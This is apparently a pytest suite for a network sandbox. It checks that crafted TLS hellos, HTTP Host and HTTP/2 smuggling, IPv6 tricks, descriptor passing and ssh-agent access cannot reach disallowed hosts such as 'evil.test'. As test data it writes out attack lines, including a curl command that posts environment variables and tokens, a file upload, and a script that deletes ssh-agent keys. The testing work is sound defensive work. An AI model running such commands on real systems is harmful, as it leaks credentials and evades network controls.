# SPDX-License-Identifier: Apache-2.0
"""The rest of the attempts, see test_attacks.py: hellos, exfiltration, secrets, doors, services."""
import array
import contextlib
import json
import os
import socket
import struct
import subprocess
import threading
import time

import pytest

from ambit_test import skip_impossible, wait_until
from test_attacks import GET, PYTHON, assert_no_leak, attempts, connect_to, stopped  # noqa: F401


# --- N4: encrypted hellos ---------------------------------------------------------------

def hello(name, ech=False, junk=b"", session=None):
    """A ClientHello as TLS 1.3 clients send it: server name, perhaps an encrypted inner hello."""
    def extension(kind, body):
        return struct.pack(">HH", kind, len(body)) + body

    extensions = extension(0x2b, b"\x02\x03\x04") + junk
    if name is not None:
        host = name.encode()
        entry = b"\0" + struct.pack(">H", len(host)) + host
        extensions += extension(0, struct.pack(">H", len(entry)) + entry)
    if ech:  # outer, HKDF-SHA256 and AES-128-GCM, a key and what it hides
        extensions += extension(0xfe0d, b"\0" + struct.pack(">HHB", 1, 1, 7) +
                                struct.pack(">H", 32) + os.urandom(32) +
                                struct.pack(">H", 200) + os.urandom(200))
    body = b"\3\3" + os.urandom(32) + b"\x20" + (session or os.urandom(32)) + \
        struct.pack(">HHH", 4, 0x1301, 0x1302) + b"\1\0" + \
        struct.pack(">H", len(extensions)) + extensions
    message = b"\1" + struct.pack(">I", len(body))[1:] + body
    return b"\x16\3\1" + struct.pack(">H", len(message)) + message


@pytest.mark.parametrize("way", ["transparent", "connect", "socks"])
def test_n4_encrypted_hello(net, box, attempts, way):
    """The outer name decides, with an encrypted hello behind it or not. What it hides could be
    another name of the same server, as the Host field inside TLS could: said in THREATS."""
    def one(data):
        return {"transparent": ("tcp", "allowed.test", 8443, data),
                "connect": connect_to(b"allowed.test:8443", data),
                "socks": ("socks", "allowed.test", 8443, data)}[way]

    def names():
        return [e.what[0] for e in net.events if e.kind == "tls"]

    for name in ("evil.test", "public.allowed.test", None):
        stopped(net, lambda: attempts([one(hello(name, ech=True))]),
                lambda: attempts.host([("tcp", "allowed.test", 8443, hello(name, ech=True))]))
        assert "denied connect to allowed.test:8443" in attempts.err, attempts.err
    net.forget()
    attempts([one(hello("allowed.test", ech=True))])  # the right outer name, as grease has it
    assert wait_until(lambda: names() == ["allowed.test"]), net.events


def test_n4_hello_in_pieces(net, box, attempts):
    """Cut into records, into segments, followed by more: read whole before a byte goes on."""
    def pieces(data, n):
        message, out = data[5:], b""
        for i in range(0, len(message), n):
            out += b"\x16\3\1" + struct.pack(">H", len(message[i:i + n])) + message[i:i + n]
        return out

    bad, good = hello("evil.test"), hello("allowed.test")
    tries = [pieces(bad, 1), pieces(bad, 7), pieces(bad, 100), bad + good, good[:-1],
             bad[:60], b"\x16\3\1" + b"\0\0" + bad, b"\x16\3\1" + struct.pack(">H", 0xffff) + bad,
             hello("allowed.test\0.evil.test"), hello("allowed.test."), hello("ALLOWED.test")]
    # the last two are the same name, and go through; nothing else may
    for data in tries[:-2]:
        net.forget()
        attempts([("tcp", "allowed.test", 8443, data, {"wait": 0.2})])
        time.sleep(0.05)
        assert not [e for e in net.events if e.kind in ("tls", "data")], (data, net.events)
    net.forget()
    attempts([("tcp", "allowed.test", 8443, pieces(good, 7))])  # control
    assert wait_until(lambda: [e for e in net.events if e.kind == "tls"])


def offer(name, keys, *more):
    """A hello that an OpenSSL server takes: with a key for X25519, or with none, so that the server
    asks for another hello."""
    def extension(kind, body):
        return struct.pack(">HH", kind, len(body)) + body

    share = struct.pack(">HH", 0x1d, 32) + bytes(range(32)) if keys else b""
    return hello(name, junk=extension(0x0a, b"\0\2\0\x1d") + extension(0x0d, b"\0\4\4\3\x08\4") +
                 extension(0x33, struct.pack(">H", len(share)) + share) + b"".join(more), session=bytes(32))


EARLY_DATA = b"\0\x2a\0\0"
DUMMY_CIPHER = b"\x14\3\3\0\1\1"
SECOND_HELLOS = {
    "at once": [offer("allowed.test", False), offer("evil.test", True)],
    "behind a cipher": [offer("allowed.test", False), DUMMY_CIPHER + offer("evil.test", True)],
    "without a name": [offer("allowed.test", False), DUMMY_CIPHER + offer(None, True)],
    "behind early data": [offer("allowed.test", False, EARLY_DATA),
                          DUMMY_CIPHER + b"\x17\3\3\0\5early" * 2 + offer("evil.test", True)],
}


@pytest.mark.parametrize("way", ["transparent", "connect", "socks"])
@pytest.mark.parametrize("what", SECOND_HELLOS)
def test_n4_second_hello(net, box, attempts, way, what):
    """A server that cannot use the client's key asks for another hello, in the clear as the first;
    OpenSSL's take the name from it."""
    first, second = SECOND_HELLOS[what]

    def one(size, way):
        then = [second[i:i + size].decode("latin1") for i in range(0, len(second), size)]
        return {"transparent": ("tcp", "allowed.test", 8443, first, {"then": then}),
                "connect": connect_to(b"allowed.test:8443", first, then=then),
                "socks": ("socks", "allowed.test", 8443, first, {"then": then})}[way]

    for size in (len(second), 50, len(second) - 1):
        stopped(net, lambda: attempts([one(size, way)]),
                lambda: attempts.host([one(size, "transparent")]))
        assert "denied connect to allowed.test:8443" in attempts.err, attempts.err


@pytest.fixture
def picky_server(net):
    """OpenSSL's own server on 9443, which does not have X25519: hello(), and the next client is sent it."""
    argv = ["openssl", "s_server", "-accept", "9443", "-cert", net.certificate, "-key",
            net.directory / "key.pem", "-groups", "P-384:P-256", "-quiet", "-early_data"]

    def serves():
        """And is done with us: it would give our connection what is meant for the next one."""
        with socket.socket() as s:
            if s.connect_ex(("127.0.0.1", 9443)) != 0:
                return False
            s.settimeout(20)
            with contextlib.suppress(ConnectionResetError):
                s.shutdown(socket.SHUT_WR)
                while s.recv(100):
                    pass
        return True

    with net.inside():
        p = subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, bufsize=0)
        assert wait_until(serves)
    yield lambda: p.stdin.write(b"hello\n")
    p.kill()
    p.wait()


@pytest.mark.parametrize("how", ["", "-tls1_2", "-no_middlebox", "-early_data early"])
def test_n4_second_hello_when_allowed(net, box, picky_server, how):
    """Clients that are asked for another hello get on, with early data too, and so do those of
    TLS 1.2, with a new session and with one that they had."""
    # which ends with its input, once it was greeted
    client = "i=0; : >said; (until grep -qx hello said || [ $i -ge 200 ]; do i=$((i+1)); sleep 0.05; done) | " \
             "openssl s_client -quiet -no_ign_eof -msg -groups X25519:P-384:P-256 " \
             "-connect allowed.test:9443 -servername allowed.test -verify_return_error -CAfile " + net.certificate
    box.write("ws/early", "early\n")
    for more in how.removesuffix("-early_data early") + " -sess_out session", how + " -sess_in session":
        picky_server()
        r = box.sh(f"{client} {more} >said; cat said")
        assert "\nhello\n" in r.out and "denied" not in r.err, str(r)
        assert r.out.count(", ClientHello") == (1 if "tls1_2" in how else 2), str(r)


@pytest.fixture
def go_server(net, built):
    """A TLS server written in Go, on a port that is not known for TLS; it notes the names in hellos."""
    program = net.directory / "go-hellos"
    if not program.exists():
        skip_impossible("go is not installed")
    with net.inside():
        p = subprocess.Popen([program, "2053", net.certificate, net.directory / "key.pem"],
                             stdout=subprocess.PIPE, text=True)
    assert p.stdout.readline() == "up\n"
    thread = threading.Thread(
        target=lambda: [net.note("tls", line.split()[1], 2053) for line in p.stdout])
    thread.start()
    yield
    p.kill()
    p.wait()
    thread.join()


@pytest.mark.parametrize("way", ["transparent", "connect", "socks"])
def test_n4_record_before_the_hello(net, box, attempts, go_server, way):
    """Go's servers, and others, pass over a warning and take the hello behind it: it is TLS, and
    not another protocol, on any port."""
    def one(name):
        data = b"\x15\3\1\0\2\1\x5a" + hello(name)  # a warning: no renegotiation
        return {"transparent": ("tcp", "allowed.test", 2053, data),
                "connect": connect_to(b"allowed.test:2053", data),
                "socks": ("socks", "allowed.test", 2053, data)}[way]

    straight = ("tcp", "allowed.test", 2053, b"\x15\3\1\0\2\1\x5a" + hello("evil.test"))
    stopped(net, lambda: attempts([one("evil.test")]), lambda: attempts.host([straight]))
    assert "denied connect to allowed.test:2053" in attempts.err, attempts.err


@pytest.mark.parametrize("way", ["transparent", "connect", "socks"])
def test_n4_record_of_another_version(net, box, attempts, go_server, way):
    """Servers are to ignore the version of the record that a hello is in, and Go's take any below
    16: it is TLS, on any port."""
    def one(name, way):
        data = b"\x16\4" + hello(name)[2:]
        return {"transparent": ("tcp", "allowed.test", 2053, data),
                "connect": connect_to(b"allowed.test:2053", data),
                "socks": ("socks", "allowed.test", 2053, data)}[way]

    stopped(net, lambda: attempts([one("evil.test", way)]),
            lambda: attempts.host([one("evil.test", "transparent")]))
    assert "denied connect to allowed.test:2053" in attempts.err, attempts.err


@pytest.mark.parametrize("way", ["transparent", "connect", "socks"])
def test_n4_host_field_on_other_ports(net, box, attempts, way):
    """Plain HTTP on any port: the Host field of a request inside a tunnel, and of the second one on
    the same connection."""
    def one(data):
        return {"transparent": ("tcp", "allowed.test", 8080, data),
                "connect": connect_to(b"allowed.test:8080", data),
                "socks": ("socks", "allowed.test", 8080, data)}[way]

    fine = b"GET /fine HTTP/1.1\r\nHost: allowed.test:8080\r\n\r\n"
    for data in (GET % (b"smuggled", b"evil.test"), fine + GET % (b"smuggled", b"evil.test:8080"),
                 b"GET http://evil.test/smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n",
                 # bytes that no client sends in a first line, and some servers take
                 GET % (b"smuggled\1", b"evil.test"), GET % (b"smuggled\0\xe9", b"evil.test"),
                 GET % (b"smuggled\x7f\x1b", b"evil.test")):
        reply, = stopped(net, lambda: attempts([one(data)]),
                         lambda: attempts.host([("tcp", "allowed.test", 8080, data)]))
        assert "smuggled" not in reply, reply
    net.forget()
    reply, = attempts([one(fine)])
    assert "hello from allowed.test:8080/fine" in reply, reply


def http2(authority):
    """The beginning of HTTP/2 without TLS: the preface, settings, and GET / of this host."""
    def frame(kind, flags, stream, body):
        return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body

    headers = b"\x82\x84\x86\x01" + bytes([len(authority)]) + authority
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(1, 5, 1, headers)


@pytest.mark.parametrize("port", [9, 7], ids=["client-first", "server-first"])
@pytest.mark.parametrize("way", ["transparent", "connect", "socks"])
def test_n4_http2_without_tls(net, box, attempts, way, port):
    """Each request there says whom it is for, in a form of its own: none of it goes on, whole or
    in pieces, and no upgrade to it. Servers may speak first, as gRPC's do."""
    def one(data, way):
        more = {"wait": 1, "then": [d.decode("latin1") for d in data[1:]]}
        return {"transparent": ("tcp", "allowed.test", port, data[0], more),
                "connect": connect_to(b"allowed.test:%d" % port, data[0], **more),
                "socks": ("socks", "allowed.test", port, data[0], more)}[way]

    def arrived():
        return [e for e in net.events if e.kind == "data" and b"evil.test" in e.what[1]]

    whole = http2(b"evil.test")
    for data in [b"", whole], [b"", whole[:3], whole[3:]], [b"", whole[:9], whole[9:]], [whole]:
        net.forget()
        attempts.host([one(data, "transparent")])
        assert wait_until(arrived), net.events  # control
        net.forget()
        reply, = attempts([one(data, way)])
        assert not net.leaks() and not arrived(), (reply, net.events)
        assert f"denied connect to allowed.test:{port}" in attempts.err, attempts.err


# --- N11: out by the front door -----------------------------------------------------------

def test_n11_sending_to_an_allowed_host(net, box):
    """A rule for a host is leave to send there: nothing looks at methods and paths. It is said
    where one would look (explain, the man page, THREATS), and what can be kept out is names and
    ports."""
    r = box.sh("curl -sSf -X POST -d secret=1 http://allowed.test/gists && "
               "curl -sSf -T /etc/hostname http://allowed.test/upload?data")
    assert r.ok().out.count("hello from allowed.test") == 2
    r = box.ambit("explain", *box.options, "connect", "allowed.test:443").ok()
    assert "whatever is sent there" in r.out, str(r)
    # an upload host below an allowed zone: a deny wins over every allow
    box.options = ["--allow-domain", "*.evil.test", "--deny-domain", "uploads.evil.test"]
    for how in (["curl", "-sS", "-d", "x"], ["curl", "-sS", "--noproxy", "*", "-d", "x"]):
        net.names.update({"uploads.evil.test": ["11.6.6.6"]})
        r = stopped(net, lambda: box.run(*how, "http://uploads.evil.test/"),
                    lambda: box.host(*how, "http://uploads.evil.test/"))
        assert "denied connect to uploads.evil.test" in r.err, str(r)
        net.names.update({"uploads.evil.test": ["11.6.6.6"]})


# --- N12: secrets in requests ---------------------------------------------------------------

def test_n12_no_secret_to_send(net, box):
    """There is no store of credentials that a request could be made to draw from: secrets do not
    come in, and a placeholder is text like any other, at the allowed host and at another."""
    secrets = {"GITHUB_TOKEN": "ghp_secret", "AWS_SECRET_ACCESS_KEY": "aws-secret",
               "NPM_TOKEN": "npm-secret"}
    box.write(".netrc", "machine allowed.test login me password net-secret\n", 0o600)
    send = "curl -sSn -d \"$(env)\" -H 'Authorization: Bearer ${GITHUB_TOKEN}' " \
           "-H \"X-Key: $AWS_SECRET_ACCESS_KEY\" http://allowed.test/x"
    outside = box.host("sh", "-c", send, env=secrets).ok().out
    assert "ghp_secret" in outside and "aws-secret" in outside, outside  # control
    inside = box.sh(send, env=secrets).ok().out
    assert "hello from allowed.test" in inside
    assert not [s for s in [*secrets.values(), "net-secret"] if s in inside], inside
    r = box.run("true", options=["--set", "credentials=x"])
    assert r.code == 125 and "credentials" in r.err, str(r)


# --- N14: around the settings -----------------------------------------------------------------

@pytest.mark.parametrize("how", ["env -i", "curl --noproxy '*'", "NO_PROXY='*' no_proxy='*'",
                                 "env http_proxy=http://127.0.0.1:9 "])
def test_n14_without_the_variables(net, box, built, how):
    """Unset, overruled or wrong proxy settings: the same rules."""
    def command(host):
        if how.startswith("curl"):
            return f"{how} -sSf http://{host}/"
        if "127.0.0.1:9" in how:
            return f"{how} {net.directory}/lookup-glibc {host} 80"
        return f"{how} /usr/bin/curl -sSf http://{host}/"

    assert "hello from allowed.test" in box.sh(command("allowed.test")).ok().out
    r = stopped(net, lambda: box.sh(command("evil.test")),
                lambda: box.host("sh", "-c", command("evil.test")))
    assert r.code != 0 and "denied connect to evil.test" in r.err, str(r)


# --- N17: IPv6 ----------------------------------------------------------------------------------

def test_n17_link_local(net, box, attempts):
    """Addresses with a scope, all-nodes, and the router's own."""
    with net.inside():
        out = subprocess.run(["ip", "-6", "-o", "address", "show", "dev", "down0", "scope", "link"],
                             capture_output=True, text=True, check=True).stdout
    gate = out.split()[3].split("/")[0]
    script = """
import socket, sys
for host, scope in ((sys.argv[1], 0), (sys.argv[1], 1), (sys.argv[1], 2), ("fe80::1", 1)):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            device = socket.if_nametoindex("up0") if scope == 2 else scope
            s = socket.socket(socket.AF_INET6, kind)
            s.settimeout(1)
            s.connect((host, 80, 0, device))
            s.send(b"GET / HTTP/1.0\\r\\n\\r\\n")
            print("got", s.recv(100))
        except OSError as e:
            print(type(e).__name__)
for group in ("ff02::1", "ff02::2", "ff02::fb"):
    try:
        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, socket.if_nametoindex(sys.argv[2]))
        s.sendto(b"who", (group, 5353))
    except OSError:
        pass
"""
    start = time.monotonic()
    r = stopped(net, lambda: box.run(PYTHON, "-c", script, gate, "lo"),
                lambda: box.host(PYTHON, "-c", script, gate, "up0"))
    assert "got" not in r.out, str(r)
    assert time.monotonic() - start < 20


def test_n17_same_rules(net, box, attempts):
    """A name that has only IPv6, another port of it, its neighbours, its address as IPv4 would be
    written: as with IPv4."""
    box.options = ["--allow-domain", "v6.test:80", "--allow-domain", "[2a0b:99::3]:80"]
    allowed = [("tcp", "v6.test", 80, GET % (b"", b"v6.test"), {"family": 6}),
               ("tcp", "2a0b:99::3", 80, GET % (b"", b"[2a0b:99::3]"))]
    denied = [("tcp", "2a0b:99::1", 80, GET % (b"", b"v6.test")),  # its address, but not by name
              ("tcp", "2a0b:99::3", 81, b""), ("tcp", "2a0b:99::4", 80, b""),
              ("tcp", "2a0b:99::3", 443, b"", {"tls": "dual.test"}),
              connect_to(b"[2a0b:99::1]:80"), connect_to(b"[2a0b:99::3]:8080"),
              connect_to(b"[2a0b:99::3%25lo]:80"), connect_to(b"[::ffff:11.9.9.9]:80"),
              ("socks", "2a0b:99::9", 80, b"")]
    net.forget()
    replies = attempts(allowed)
    assert all("hello" in r for r in replies), replies
    net.forget()
    replies = attempts(denied)
    assert not net.leaks(names=()), (replies, net.events)
    attempts.host(denied[:3])  # control
    assert wait_until(lambda: [e for e in net.events if e.kind == "packet"])


def test_n17_happy_eyeballs(net, box, direct):
    """Both families are answered; where one of them leads nowhere the other one is taken, and a
    name that is refused is refused in both, at once."""
    net.names["half.test"] = ["11.1.1.1", "2a0b:1::dead"]  # nobody there: no route in the test's net
    box.options = ["--allow-domain", "half.test"]
    # three seconds; more when the kernel's word that nobody is there gets lost
    r = box.run(*direct, "curl", "-sSf", "-m", "60", "http://half.test/", timeout=90)
    assert "hello" in r.out, str(r)
    start = time.monotonic()
    r = box.run(PYTHON, "-c", "import asyncio\nasync def f():\n await asyncio.open_connection("
                "'other.test', 80, happy_eyeballs_delay=0.25)\nasyncio.run(f())")
    assert r.code != 0 and time.monotonic() - start < 8, str(r)
    assert not net.leaks(names=("half.test", "allowed.test")), str(r)


# --- N18: lists that change under an open tunnel ----------------------------------------------------

@pytest.mark.parametrize("via", ["transparent", "connect", "socks"])
def test_n18_tunnel_to_a_removed_name(net, box, via):
    """Data sent after the name is gone from the list does not arrive; the tunnel ends at once. To
    a name that stays, it goes on."""
    script = """
import socket, sys, time
def tunnel(host):
    if sys.argv[1] == "transparent":
        return socket.create_connection((host, 9), 5)
    if sys.argv[1] == "connect":
        s = socket.create_connection(("127.0.0.1", 3128), 5)
        s.sendall(b"CONNECT %s:9 HTTP/1.1\\r\\nHost: %s:9\\r\\n\\r\\n" % (host.encode(), host.encode()))
        assert b" 200 " in s.recv(1000)
        return s
    s = socket.create_connection(("127.0.0.1", 1080), 5)
    s.sendall(b"\\5\\1\\0")
    s.recv(2)
    s.sendall(b"\\5\\1\\0\\3" + bytes([len(host)]) + host.encode() + b"\\0\\x09")
    assert s.recv(10)[1] == 0
    return s
def opened(host):
    end = time.monotonic() + 20  # the first list may be still on its way
    while True:
        try:
            return tunnel(host)
        except (OSError, AssertionError):
            if time.monotonic() > end:
                raise
            time.sleep(0.05)
def is_removed():
    try:
        tunnel("allowed.test").close()
        return False
    except (OSError, AssertionError):
        return True
removed, kept = opened("allowed.test"), opened("dual.test")
for s in (removed, kept):
    s.sendall(b"before")
print("open", flush=True)
if input():
    end = time.monotonic() + 20
    while not is_removed() and time.monotonic() < end:
        time.sleep(0.05)
for s in (removed, kept):
    try:
        s.sendall(b"after")
    except OSError:
        pass
print("sent", flush=True)
removed.settimeout(3)
try:
    print("end", removed.recv(10))
except OSError as e:
    print(type(e).__name__)
"""
    def arrived():
        return {e.what[0][0] for e in net.events if e.kind == "data" and b"after" in e.what[1]}

    def run(last):
        """The lists change to `last` while both tunnels are open. -> what arrived after it"""
        net.forget()
        r, w = os.pipe()
        box.options = []
        with box.start(PYTHON, "-c", script, via, options=["--control-fd", str(r)],
                       pass_fds=[r]) as child:
            os.close(r)
            os.write(w, json.dumps({"network": {"allowedDomains": ["allowed.test", "dual.test"]}})
                     .encode() + b"\n")
            line = child.process.stdout.readline()
            assert line == b"open\n", child.process.stderr.read()
            os.write(w, json.dumps({"network": {"allowedDomains": last}}).encode() + b"\n")
            # that the lists have changed is seen inside: a new tunnel is refused
            child.process.stdin.write(b"\n" if "allowed.test" in last else b"removed\n")
            child.process.stdin.flush()
            assert child.process.stdout.readline() == b"sent\n"
            end = child.process.stdout.readline() if "allowed.test" not in last else None
            # the tunnel that stays: the first packets of IPv6 may take their time
            wait_until(lambda: arrived() - {"11.1.1.1"} and (end or "11.1.1.1" in arrived()))
        os.close(w)
        return arrived(), end

    where, _ = run(["allowed.test", "dual.test"])  # control
    assert {"11.1.1.1"} < where, where
    where, end = run(["dual.test"])
    assert where and "11.1.1.1" not in where, where
    assert end in (b"ConnectionResetError\n", b"end b''\n"), end  # the send may have heard of it


# --- I4, I5: what a service of the host hands out -----------------------------------------------

@contextlib.contextmanager
def giver(path, make):
    """A host service on a unix socket that hands a descriptor to whoever connects."""
    with socket.socket(socket.AF_UNIX) as s:
        s.bind(str(path))
        path.chmod(0o777)
        s.listen()
        s.settimeout(0.1)
        stop = threading.Event()

        def serve():
            while not stop.is_set():
                with contextlib.suppress(OSError):
                    conn, _ = s.accept()
                    with make() as gift:
                        conn.sendmsg([b"take"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS,
                                                  array.array("i", [gift.fileno()]))])
                    conn.close()

        thread = threading.Thread(target=serve)
        thread.start()
        try:
            yield
        finally:
            stop.set()
            thread.join()
            path.unlink()


TAKE = """
import socket, sys
s = socket.socket(socket.AF_UNIX)
s.connect(sys.argv[1])
data, fds, _, _ = socket.recv_fds(s, 10, 1)
gift = socket.socket(fileno=fds[0])
gift.sendall(b"GET /stolen HTTP/1.0\\r\\n\\r\\n")
print(gift.recv(100))
"""


def test_i4_descriptor_from_a_service(net, box):
    """A service that gives its own connections away: only one that was named can be asked, and
    what it gives is its own decision (said in THREATS)."""
    path = box.home / "giver.sock"
    with net.inside():
        peers = [socket.create_connection(("11.9.9.9", 80)) for _ in range(4)]
    with giver(path, peers.pop):
        r = stopped(net, lambda: box.run(PYTHON, "-c", TAKE, str(path)),
                    lambda: box.host(PYTHON, "-c", TAKE, str(path)))
        assert r.code != 0 and "hello" not in r.out, str(r)
        assert f"denied connect to {path}" in r.err, str(r)
        r = box.run(PYTHON, "-c", TAKE, str(path), options=["--allow-unix", str(path)]).ok()
        assert "HTTP/1.1 200" in r.out, str(r)  # control: named, it can be asked


AGENT = """
import os, socket, sys
path = os.environ.get("SSH_AUTH_SOCK") or sys.argv[1]
s = socket.socket(socket.AF_UNIX)
s.connect(path)
s.sendall(b"\\0\\0\\0\\1\\x0b")       # list the keys
print(s.recv(9)[4], "answered")      # 12: here they are
s.sendall(b"\\0\\0\\0\\1\\x13")       # forget them all
print(s.recv(5)[4], "removed")
"""


def test_i5_ssh_agent(net, box, tmp_path):
    """An agent can be asked for signatures, and told to forget its keys: it is not there unless it
    is named, whatever the environment says. Named, it is the agent as it is (said in THREATS)."""
    path = box.home / "agent.sock"
    agent = box.who.popen(["ssh-agent", "-D", "-a", str(path)], stdout=subprocess.DEVNULL,
                          stderr=subprocess.DEVNULL)
    try:
        assert wait_until(path.exists)
        env = {"SSH_AUTH_SOCK": str(path)}
        r = box.run(PYTHON, "-c", AGENT, str(path), env=env)
        assert r.code != 0 and "answered" not in r.out, str(r)
        assert f"denied connect to {path}" in r.err and "--allow-unix" in r.err, str(r)
        assert box.sh("echo \"<$SSH_AUTH_SOCK>\"", env=env).ok().out == "<>\n"
        control = "12 answered\n6 removed\n"
        assert box.host(PYTHON, "-c", AGENT, str(path), env=env).ok().out == control
        r = box.run(PYTHON, "-c", AGENT, str(path), env=env, options=["--allow-unix", str(path)])
        assert r.ok().out == control, str(r)
    finally:
        agent.kill()
        agent.wait()


# --- UDP, and everything else that is not TCP -----------------------------------------------------

EVERYTHING = """
import errno, json, socket, sys, time
out = {}
def attempt(name, what):
    start = time.monotonic()
    try:
        what()
        said = "done"
    except TimeoutError:
        said = "waited"
    except OSError as e:
        said = errno.errorcode.get(e.errno, str(e))
    out[name] = [said, time.monotonic() - start]
def udp(family, host, port, connected):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(4)
    if connected:
        s.connect((host, port))
        s.send(b"x" * 1200)
    else:
        s.sendto(b"x" * 1200, (host, port))
        time.sleep(0.02)
        s.sendto(b"x", (host, port)) if not connected else None
    s.recv(10)
for family, host in ((2, "11.1.1.1"), (10, "2a0b:99::1"), (2, socket.gethostbyname("dual.test")),
                     (10, socket.getaddrinfo("dual.test", 443, 10)[0][4][0])):
    for port in (443, 123, 5060, 41641):
        attempt(f"udp {host} {port}", lambda: udp(family, host, port, True))
for family, kind, protocol in ((2, 1, 132), (2, 5, 132), (10, 5, 132), (2, 6, 33), (2, 2, 136), (2, 3, 1),
                               (2, 2, 1), (10, 2, 58), (17, 3, 768), (40, 1, 0), (31, 3, 1), (29, 3, 1),
                               (2, 10, 0), (16, 3, 12), (38, 5, 0), (43, 1, 0), (2, 1, 256)):
    attempt(f"socket {family} {kind} {protocol}", lambda: socket.socket(family, kind, protocol))
print(json.dumps(out))
"""


def test_everything_else_fails_at_once(net, box):
    """QUIC and other datagrams, in both families, to addresses and to allowed names; protocols
    that are not TCP: each answer within a moment, so that clients fall back."""
    box.options = ["--allow-domain", "dual.test"]
    r = box.run(PYTHON, "-c", EVERYTHING).ok()
    found = json.loads(r.out)
    slow = {k: v for k, v in found.items() if v[1] > 3}
    assert not slow, slow
    udp = {k: v[0] for k, v in found.items() if k.startswith("udp")}
    assert set(udp.values()) == {"ECONNREFUSED"}, udp
    made = {k: v for k, v in found.items() if k.startswith("socket") and v[0] == "done"}
    # UDP-Lite is UDP: it may be made, and leads nowhere
    assert set(made) <= {"socket 2 2 136"}, made
    assert not net.leaks(names=("dual.test",)), str(r)
